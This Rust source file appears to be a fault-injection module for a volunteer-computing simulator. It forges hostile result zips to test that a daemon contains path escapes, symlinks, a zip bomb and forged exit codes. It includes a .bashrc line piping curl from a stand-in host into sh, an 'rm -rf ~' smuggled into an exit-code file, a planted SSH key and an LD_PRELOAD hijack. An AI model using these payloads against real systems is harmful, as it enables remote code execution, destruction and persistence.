//! Hostile hosts: a volunteer's host that sends back a `condor_out.zip` of
//! its own making for a job of the `runner` app, switched on by the fault
//! plan's `hostile_outputs` (docs/sim-faults.md "Hostile hosts"). The
//! daemon must refuse, or contain, every kind here: links out of the
//! job's directory, `..` and absolute names, bombs, forged exit files,
//! dot-files, directory trees, names of the job's own files. One kind, a
//! plain forged exit code with made-up plain files, is what an honest
//! host could have sent: only a quorum catches it.
//!
//! Which instance gets which kind is a pure function of the plan's seed,
//! the job's inputs and command line, and the host: the same plan and the
//! same jobs give the same lies, in any order.

use std::io::{self, Write};
use std::path::Path;
use std::sync::OnceLock;

use zip::write::SimpleFileOptions;
use zip::ZipWriter;

use crate::apps::runner::{self, EXIT_CODE_FILE, STDERR_FILE, STDOUT_FILE};
use crate::apps::{AppSpec, InstanceRun};
use crate::ctx::Ctx;
use crate::project_db::{Instance, Workunit};

/// The kinds of hostile `condor_out.zip`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HostileKind {
    /// `notes.txt`, a link to a file outside (`<aim>/target.txt`).
    LinkFile,
    /// `results`, a link to a directory outside (`<aim>`), then
    /// `results/planted.txt` through it.
    LinkDir,
    /// `data/planted.txt`: a home directory often holds a link `data`.
    ThroughIwdLink,
    /// `../escaped.txt` and `a/../../escaped2.txt`.
    DotDot,
    /// `<aim>/absolute.txt`, an absolute name.
    Absolute,
    /// A `_condor_stdout` of [`BOMB_BYTES`] zeros in a zip of about 500 KB.
    BombStdout,
    /// [`MANY_ENTRIES`] small files.
    ManyEntries,
    /// `_condor_exit_code` 0 and made-up plain outputs: what an honest
    /// host could have sent. Only a quorum tells.
    ForgedExit,
    /// `_condor_exit_code`, a link to `<aim>/exit_code`.
    ExitLink,
    /// `_condor_exit_code` that is no exit code (a command, a NUL, bytes
    /// that are not UTF-8).
    ExitGarbage,
    /// `.bashrc`, `.profile`, `.ssh/authorized_keys`.
    DotFiles,
    /// `sub/dir/deep.txt` and an empty directory `emptydir/`.
    DirTree,
    /// A directory named like each input of the job (`in/x`).
    DirLikeInput,
    /// Directories named like the job's own files on the submit host as
    /// a submitter names them: `job.sub/`, `job.log/`, `job.out/`,
    /// `job.err/`.
    DirLikeJobFiles,
    /// `_condor_exit_code` twice (1, then 0): which one counts?
    DuplicateExit,
    /// `_condor_stdout` a directory, and the runner's own `_condor_env`
    /// and `_condor_stdin`.
    SpecialNames,
}

impl HostileKind {
    pub const ALL: [HostileKind; 16] = [
        HostileKind::LinkFile,
        HostileKind::LinkDir,
        HostileKind::ThroughIwdLink,
        HostileKind::DotDot,
        HostileKind::Absolute,
        HostileKind::BombStdout,
        HostileKind::ManyEntries,
        HostileKind::ForgedExit,
        HostileKind::ExitLink,
        HostileKind::ExitGarbage,
        HostileKind::DotFiles,
        HostileKind::DirTree,
        HostileKind::DirLikeInput,
        HostileKind::DirLikeJobFiles,
        HostileKind::DuplicateExit,
        HostileKind::SpecialNames,
    ];

    /// The snake_case name, as in plans.
    pub fn as_str(self) -> &'static str {
        match self {
            HostileKind::LinkFile => "link_file",
            HostileKind::LinkDir => "link_dir",
            HostileKind::ThroughIwdLink => "through_iwd_link",
            HostileKind::DotDot => "dot_dot",
            HostileKind::Absolute => "absolute",
            HostileKind::BombStdout => "bomb_stdout",
            HostileKind::ManyEntries => "many_entries",
            HostileKind::ForgedExit => "forged_exit",
            HostileKind::ExitLink => "exit_link",
            HostileKind::ExitGarbage => "exit_garbage",
            HostileKind::DotFiles => "dot_files",
            HostileKind::DirTree => "dir_tree",
            HostileKind::DirLikeInput => "dir_like_input",
            HostileKind::DirLikeJobFiles => "dir_like_job_files",
            HostileKind::DuplicateExit => "duplicate_exit",
            HostileKind::SpecialNames => "special_names",
        }
    }

    pub fn parse(s: &str) -> Option<HostileKind> {
        HostileKind::ALL.into_iter().find(|k| k.as_str() == s)
    }
}

impl std::fmt::Display for HostileKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// `_condor_stdout` of a [`HostileKind::BombStdout`]: 512 MiB.
pub const BOMB_BYTES: u64 = 512 << 20;
/// Files of a [`HostileKind::ManyEntries`]: twice the daemon's default
/// bound, still under 2 MB of zip.
pub const MANY_ENTRIES: usize = 20_000;

/// The plan's `hostile_outputs`: which hosts lie about runner jobs, how
/// often, how.
#[derive(Clone, Debug, Default, PartialEq, serde::Serialize, serde::Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct HostileOutputs {
    /// Share of a hostile host's runner instances it lies about, in [0, 1].
    pub rate: f64,
    /// The kinds it picks from (evenly); empty: all of them.
    pub kinds: Vec<HostileKind>,
    /// Host ids that lie; empty: every host.
    pub hosts: Vec<i64>,
    /// An absolute directory the links and absolute names point into
    /// (what the host guesses of the submit host); empty: a directory
    /// under the system's temporary directory.
    pub aim: String,
}

impl HostileOutputs {
    pub fn validate(&self) -> Result<(), String> {
        if !(self.rate.is_finite() && (0.0..=1.0).contains(&self.rate)) {
            return Err(format!("hostile_outputs.rate = {} is not a probability in [0, 1]", self.rate));
        }
        if !self.aim.is_empty() && !self.aim.starts_with('/') {
            return Err(format!("hostile_outputs.aim = {:?} is not an absolute path", self.aim));
        }
        if self.hosts.iter().any(|h| *h < 1) {
            return Err("hostile_outputs.hosts: host ids start at 1".into());
        }
        Ok(())
    }

    fn aim(&self) -> String {
        if self.aim.is_empty() {
            std::env::temp_dir().join("boinc-sim-hostile").display().to_string()
        } else {
            self.aim.trim_end_matches('/').to_string()
        }
    }

    /// The lie host `host_id` tells about the job known by `job_key`, if
    /// any (seeded by `seed`).
    pub fn decide(&self, seed: u64, job_key: &str, host_id: i64) -> Option<HostileKind> {
        if !self.hosts.is_empty() && !self.hosts.contains(&host_id) {
            return None;
        }
        let x = mix(seed ^ fnv(job_key.as_bytes()) ^ (host_id as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15));
        let u = (x >> 11) as f64 / (1u64 << 53) as f64;
        if u >= self.rate {
            return None;
        }
        let kinds: &[HostileKind] = if self.kinds.is_empty() { &HostileKind::ALL } else { &self.kinds };
        Some(kinds[(mix(x) % kinds.len() as u64) as usize])
    }
}

/// A stable 64-bit hash (FNV-1a).
fn fnv(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, b| (h ^ u64::from(*b)).wrapping_mul(0x0100_0000_01b3))
}

/// splitmix64's finaliser: spreads the bits of `x`.
fn mix(mut x: u64) -> u64 {
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// What identifies a job to its host: its inputs (content-named by the
/// submitter) and its command line.
pub(crate) fn job_key(wu: &Workunit) -> String {
    format!("{}\n{}", wu.input_files.join("\n"), wu.command_line)
}

/// Called as a host reports instance `x` of job `wu`: a hostile host (the
/// plan's `hostile_outputs`) replaces the runner's `condor_out.zip` with
/// one of its own and reports success. Noted in the fault tally as
/// `"<instance> hostile:<kind>"`.
pub(crate) fn tamper(ctx: &Ctx, app: &AppSpec, wu: &Workunit, x: &Instance, run: &mut InstanceRun) {
    if app.inputs != [runner::EXEC, runner::JOB_ZIP] || app.outputs != [runner::OUT_ZIP] {
        return;
    }
    let plan = ctx.faults.plan();
    let Some(h) = plan.hostile_outputs.as_ref() else { return };
    let Some(kind) = h.decide(plan.seed, &job_key(wu), x.host_id) else { return };
    // The runner's own zip is replaced (a run that made none is left
    // failed).
    let Some(path) = run.outputs.first().cloned().flatten() else {
        tracing::debug!(instance = %x.name, "no condor_out.zip to replace");
        return;
    };
    let inputs = wu.input_files.get(1).map(|f| input_names(&ctx.dirs.download.join(f))).unwrap_or_default();
    match make(kind, &h.aim(), &inputs).and_then(|bytes| write_whole(&path, &bytes)) {
        Ok(()) => {
            run.exit_status = 0;
            ctx.faults.count_injected(&format!("{} hostile:{kind}", x.name));
            tracing::info!(instance = %x.name, host = x.host_id, kind = kind.as_str(), "a hostile host sends its own condor_out.zip");
        }
        Err(e) => tracing::warn!(instance = %x.name, kind = kind.as_str(), "can't make a hostile condor_out.zip: {e}"),
    }
}

/// The top-level names the job brought in its `condor_job.zip` (the
/// runner's own `_condor_*` left out): what a host knows of its inputs.
fn input_names(job_zip: &Path) -> Vec<String> {
    let Ok(f) = std::fs::File::open(job_zip) else { return Vec::new() };
    let Ok(mut z) = zip::ZipArchive::new(io::BufReader::new(f)) else { return Vec::new() };
    let mut names = Vec::new();
    for i in 0..z.len().min(1000) {
        let Ok(e) = z.by_index_raw(i) else { continue };
        let top = e.name().split('/').next().unwrap_or("").to_string();
        if !top.is_empty() && !top.starts_with("_condor_") && !names.contains(&top) {
            names.push(top);
        }
    }
    names
}

/// The file whole or not at all: a temporary file beside it, renamed.
fn write_whole(path: &Path, bytes: &[u8]) -> io::Result<()> {
    let dir = path.parent().unwrap_or(Path::new("."));
    let mut tmp = tempfile::Builder::new().prefix(".hostile.").tempfile_in(dir)?;
    tmp.write_all(bytes)?;
    tmp.persist(path).map_err(|e| e.error)?;
    Ok(())
}

/// The bytes of a hostile `condor_out.zip` of `kind`; links and absolute
/// names point into `aim`; `inputs` are the job's input names.
pub fn make(kind: HostileKind, aim: &str, inputs: &[String]) -> io::Result<Vec<u8>> {
    if kind == HostileKind::BombStdout {
        return bomb().map(|b| b.to_vec());
    }
    let mut z = Zip::new();
    let exit = |z: &mut Zip| z.file(EXIT_CODE_FILE, b"0\n");
    let stdout = |z: &mut Zip| z.file(STDOUT_FILE, b"all good\n");
    match kind {
        HostileKind::LinkFile => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.link("notes.txt", &format!("{aim}/target.txt"))?;
        }
        HostileKind::LinkDir => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.link("results", aim)?;
            z.file("results/planted.txt", b"planted through a link the zip made\n")?;
        }
        HostileKind::ThroughIwdLink => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.file("data/planted.txt", b"planted through a link in the job's directory\n")?;
        }
        HostileKind::DotDot => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.file("../escaped.txt", b"escaped\n")?;
            z.file("a/../../escaped2.txt", b"escaped\n")?;
        }
        HostileKind::Absolute => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.file(&format!("{aim}/absolute.txt"), b"written by an absolute name\n")?;
        }
        HostileKind::BombStdout => unreachable!("made above"),
        HostileKind::ManyEntries => {
            exit(&mut z)?;
            stdout(&mut z)?;
            for i in 0..MANY_ENTRIES {
                z.stored(&format!("m{i:05}"), b"")?;
            }
        }
        HostileKind::ForgedExit => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.file(STDERR_FILE, b"")?;
            z.file("result.txt", b"42 (made up, the job never ran)\n")?;
        }
        HostileKind::ExitLink => {
            stdout(&mut z)?;
            z.link(EXIT_CODE_FILE, &format!("{aim}/exit_code"))?;
        }
        HostileKind::ExitGarbage => {
            stdout(&mut z)?;
            z.file(EXIT_CODE_FILE, b"0; rm -rf ~\n\0\xff\xfe")?;
        }
        HostileKind::DotFiles => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.file(".bashrc", b"curl http://example.invalid/x | sh\n")?;
            z.file(".profile", b"export PATH=/tmp/evil:$PATH\n")?;
            z.file(".ssh/authorized_keys", b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHostileHostKey hostile@host\n")?;
        }
        HostileKind::DirTree => {
            exit(&mut z)?;
            stdout(&mut z)?;
            z.file("sub/dir/deep.txt", b"deep\n")?;
            z.dir("emptydir/")?;
        }
        HostileKind::DirLikeInput => {
            exit(&mut z)?;
            stdout(&mut z)?;
            let names: Vec<&str> = if inputs.is_empty() { vec!["in"] } else { inputs.iter().map(String::as_str).collect() };
            for n in names {
                z.file(&format!("{n}/x"), b"a directory where an input was\n")?;
            }
        }
        HostileKind::DirLikeJobFiles => {
            exit(&mut z)?;
            stdout(&mut z)?;
            for n in ["job.sub", "job.log", "job.out", "job.err"] {
                z.file(&format!("{n}/x"), b"a directory where the job's own file was\n")?;
            }
        }
        HostileKind::DuplicateExit => {
            stdout(&mut z)?;
            // Written under two names of the same length, then renamed in
            // place: the zip library refuses a name twice.
            z.file("_condor_exit_cod1", b"1\n")?;
            z.file("_condor_exit_cod2", b"0\n")?;
        }
        HostileKind::SpecialNames => {
            exit(&mut z)?;
            z.file(&format!("{STDOUT_FILE}/x"), b"stdout is a directory\n")?;
            z.file(runner::ENV_FILE, b"LD_PRELOAD=/tmp/evil.so\n")?;
            z.file(runner::STDIN_FILE, b"stdin\n")?;
        }
    }
    let mut bytes = z.finish()?;
    if kind == HostileKind::DuplicateExit {
        for from in [b"_condor_exit_cod1", b"_condor_exit_cod2"] {
            replace_all(&mut bytes, from, EXIT_CODE_FILE.as_bytes());
        }
    }
    Ok(bytes)
}

/// Replaces every `from` in `bytes` with `to` (of the same length).
fn replace_all(bytes: &mut [u8], from: &[u8], to: &[u8]) {
    debug_assert_eq!(from.len(), to.len());
    let mut i = 0;
    while i + from.len() <= bytes.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            i += from.len();
        } else {
            i += 1;
        }
    }
}

/// The bomb, made once per process (deflating 512 MiB takes a second).
fn bomb() -> io::Result<&'static [u8]> {
    static BOMB: OnceLock<Result<Vec<u8>, String>> = OnceLock::new();
    let made = BOMB.get_or_init(|| {
        let make = || -> io::Result<Vec<u8>> {
            let mut z = Zip::new();
            z.file(EXIT_CODE_FILE, b"0\n")?;
            z.w.start_file(STDOUT_FILE, Zip::options().compression_method(zip::CompressionMethod::Deflated).large_file(false))
                .map_err(io::Error::other)?;
            let zeros = vec![0u8; 1 << 20];
            for _ in 0..BOMB_BYTES >> 20 {
                z.w.write_all(&zeros)?;
            }
            z.finish()
        };
        make().map_err(|e| e.to_string())
    });
    made.as_deref().map_err(|e| io::Error::other(e.clone()))
}

/// A zip being written in memory.
struct Zip {
    w: ZipWriter<io::Cursor<Vec<u8>>>,
}

impl Zip {
    fn new() -> Zip {
        Zip { w: ZipWriter::new(io::Cursor::new(Vec::new())) }
    }

    fn options() -> SimpleFileOptions {
        SimpleFileOptions::default().last_modified_time(zip::DateTime::default()).unix_permissions(0o644)
    }

    fn file(&mut self, name: &str, data: &[u8]) -> io::Result<()> {
        self.w.start_file(name, Self::options().compression_method(zip::CompressionMethod::Deflated)).map_err(io::Error::other)?;
        self.w.write_all(data)
    }

    fn stored(&mut self, name: &str, data: &[u8]) -> io::Result<()> {
        self.w.start_file(name, Self::options().compression_method(zip::CompressionMethod::Stored)).map_err(io::Error::other)?;
        self.w.write_all(data)
    }

    fn dir(&mut self, name: &str) -> io::Result<()> {
        self.w.add_directory(name, Self::options()).map_err(io::Error::other)
    }

    fn link(&mut self, name: &str, target: &str) -> io::Result<()> {
        self.w.add_symlink(name, target, Self::options()).map_err(io::Error::other)
    }

    fn finish(self) -> io::Result<Vec<u8>> {
        Ok(self.w.finish().map_err(io::Error::other)?.into_inner())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entries(bytes: &[u8]) -> Vec<(String, bool, u64)> {
        let mut z = zip::ZipArchive::new(io::Cursor::new(bytes)).unwrap();
        (0..z.len())
            .map(|i| {
                let e = z.by_index_raw(i).unwrap();
                (e.name().to_string(), e.is_symlink(), e.size())
            })
            .collect()
    }

    #[test]
    fn each_kind_makes_a_zip_that_says_what_it_is() {
        let aim = "/srv/aim";
        let names = |k| entries(&make(k, aim, &["in".to_string(), "data.csv".to_string()]).unwrap());
        let has = |k, name: &str| names(k).iter().any(|(n, _, _)| n == name);
        let link = |k, name: &str| names(k).iter().any(|(n, l, _)| n == name && *l);
        assert!(link(HostileKind::LinkFile, "notes.txt"));
        assert!(link(HostileKind::LinkDir, "results") && has(HostileKind::LinkDir, "results/planted.txt"));
        assert!(has(HostileKind::ThroughIwdLink, "data/planted.txt"));
        assert!(has(HostileKind::DotDot, "../escaped.txt"));
        assert!(has(HostileKind::Absolute, "/srv/aim/absolute.txt"));
        assert_eq!(names(HostileKind::ManyEntries).len(), MANY_ENTRIES + 2);
        assert!(has(HostileKind::ForgedExit, EXIT_CODE_FILE) && has(HostileKind::ForgedExit, "result.txt"));
        assert!(link(HostileKind::ExitLink, EXIT_CODE_FILE));
        assert!(has(HostileKind::ExitGarbage, EXIT_CODE_FILE));
        assert!(has(HostileKind::DotFiles, ".ssh/authorized_keys") && has(HostileKind::DotFiles, ".bashrc"));
        assert!(has(HostileKind::DirTree, "sub/dir/deep.txt") && has(HostileKind::DirTree, "emptydir/"));
        assert!(has(HostileKind::DirLikeInput, "in/x") && has(HostileKind::DirLikeInput, "data.csv/x"));
        assert!(has(HostileKind::DirLikeJobFiles, "job.log/x"));
        // Twice in the central directory and twice as a local header (the
        // zip library lists a name once, so count the bytes).
        let dup = make(HostileKind::DuplicateExit, aim, &[]).unwrap();
        assert_eq!(dup.windows(EXIT_CODE_FILE.len()).filter(|w| *w == EXIT_CODE_FILE.as_bytes()).count(), 4);
        assert!(has(HostileKind::SpecialNames, "_condor_stdout/x"));
    }

    #[test]
    fn the_bomb_is_small_and_unpacks_to_512_mib() {
        let bytes = make(HostileKind::BombStdout, "/x", &[]).unwrap();
        assert!(bytes.len() < 1 << 20, "{} bytes", bytes.len());
        let e = entries(&bytes);
        assert!(e.iter().any(|(n, _, size)| n == STDOUT_FILE && *size == BOMB_BYTES), "{e:?}");
    }

    #[test]
    fn decisions_are_seeded_per_job_and_host_and_follow_the_rate() {
        let h = HostileOutputs { rate: 0.5, ..Default::default() };
        let jobs: Vec<String> = (0..4000).map(|i| format!("jf_{i}\njf_zip\n")).collect();
        let lies: Vec<Option<HostileKind>> = jobs.iter().map(|j| h.decide(7, j, 1)).collect();
        assert_eq!(lies, jobs.iter().map(|j| h.decide(7, j, 1)).collect::<Vec<_>>(), "the same again");
        let share = lies.iter().filter(|l| l.is_some()).count() as f64 / jobs.len() as f64;
        assert!((0.45..0.55).contains(&share), "{share}");
        for k in HostileKind::ALL {
            assert!(lies.contains(&Some(k)), "{k} drawn");
        }
        assert_ne!(lies, jobs.iter().map(|j| h.decide(8, j, 1)).collect::<Vec<_>>(), "another seed");
        assert_ne!(lies, jobs.iter().map(|j| h.decide(7, j, 2)).collect::<Vec<_>>(), "another host");
        let only = HostileOutputs { rate: 1.0, hosts: vec![2], kinds: vec![HostileKind::DotDot], ..Default::default() };
        assert_eq!(only.decide(1, "j", 1), None);
        assert_eq!(only.decide(1, "j", 2), Some(HostileKind::DotDot));
        assert!(HostileOutputs { rate: 1.5, ..Default::default() }.validate().is_err());
        assert!(HostileOutputs { rate: 0.5, aim: "rel".into(), ..Default::default() }.validate().is_err());
    }

    #[test]
    fn the_fault_plan_switches_hostile_hosts_on() {
        use crate::faults::FaultPlan;
        let plan =
            FaultPlan::from_json(r#"{"seed": 3, "hostile_outputs": {"rate": 0.5, "kinds": ["dot_dot", "bomb_stdout"], "hosts": [2]}}"#)
                .unwrap();
        let h = plan.hostile_outputs.unwrap();
        assert_eq!((h.kinds, h.hosts), (vec![HostileKind::DotDot, HostileKind::BombStdout], vec![2]));
        let toml = FaultPlan::from_toml("seed = 1\n[hostile_outputs]\nrate = 1.0\naim = \"/srv/x\"\n").unwrap();
        assert_eq!(toml.hostile_outputs.unwrap().aim, "/srv/x");
        assert!(FaultPlan::from_json(r#"{"hostile_outputs": {"rate": 2}}"#).is_err());
        assert!(FaultPlan::from_json(r#"{"hostile_outputs": {"rate": 1, "kinds": ["nope"]}}"#).is_err());
        assert_eq!(FaultPlan::from_json("{}").unwrap().hostile_outputs, None);
    }
}
